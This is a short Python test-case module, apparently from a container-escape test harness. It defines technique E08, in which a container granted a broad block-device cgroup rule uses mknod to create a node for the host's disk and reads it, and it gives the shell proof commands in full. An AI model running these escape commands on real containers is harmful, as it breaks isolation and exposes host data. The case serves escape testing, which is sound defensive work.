"""E08: the host's disk, by a node made with mknod."""

from vm.escapes._parts import controls
from vm.harness.escape import technique

CASES = technique(
    "E08", "mknod of the host's disk, and reading it", kind="C", grant=("--device-cgroup-rule=b *:* rwm",),
    proof="""
IFS=: read major minor </sys/block/vda/dev
mknod /tmp/disk b $major $minor
reads /tmp/disk
""",
    allowed=controls('devices: {allow: [docker-default, "b *:* rwm"]}'))
